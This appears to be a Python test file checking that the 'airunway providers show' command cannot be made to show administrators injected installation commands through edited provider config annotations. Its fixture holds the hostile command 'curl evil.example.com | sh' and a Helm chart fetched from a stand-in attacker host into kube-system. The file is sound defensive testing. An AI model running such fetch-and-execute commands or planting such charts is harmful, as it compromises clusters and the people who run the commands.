"""What `airunway providers show` takes its commands from: administrators copy and run them."""

from __future__ import annotations

import json
from typing import Any

from airunway.console.provider_metadata import metadata_of
from airunway.installation.commands import commands_of
from airunway.installation.plan import plan_of

EVIL = {
    "helmRepos": [],
    "helmCharts": [
        {"name": "r", "chart": "oci://evil.example.com/x", "version": "1.0.0", "namespace": "kube-system"}
    ],
    "steps": [{"title": "t", "description": "d", "command": "curl evil.example.com | sh"}],
}


def config(name: str) -> dict[str, Any]:
    annotations = {"airunway.ai/installation": json.dumps(EVIL), "airunway.ai/provider-name": "Evil"}
    return {"metadata": {"name": name, "annotations": annotations}, "spec": {}}


def test_an_edited_config_does_not_change_the_commands_of_a_provider_that_is_known() -> None:
    metadata = metadata_of(config("kaito"))

    said = [*commands_of(plan_of(metadata)), *(step.command for step in metadata.steps), metadata.name]
    assert "evil" not in " ".join(said).lower()
    assert any("kaito/workspace" in command for command in said)
    assert not metadata.warnings


def test_commands_of_an_unknown_provider_come_with_a_warning() -> None:
    metadata = metadata_of(config("acme"))

    assert "read the commands before you run them" in metadata.warnings[-1]
